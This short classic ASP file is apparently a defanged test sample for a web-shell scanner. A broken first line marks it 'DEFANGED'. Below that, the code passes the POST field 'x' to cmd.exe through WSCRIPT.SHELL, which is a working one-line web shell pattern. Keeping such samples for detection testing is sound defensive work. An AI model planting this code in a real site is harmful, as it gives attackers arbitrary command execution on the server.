<% If Then DEFANGED %>
<%' DEFANGED vigil test sample (see README) %>
<%
Set ws = Server.CreateObject("WSCRIPT.SHELL")
Set e = ws.Exec("cmd.exe /c " & Request.Form("x"))
%>
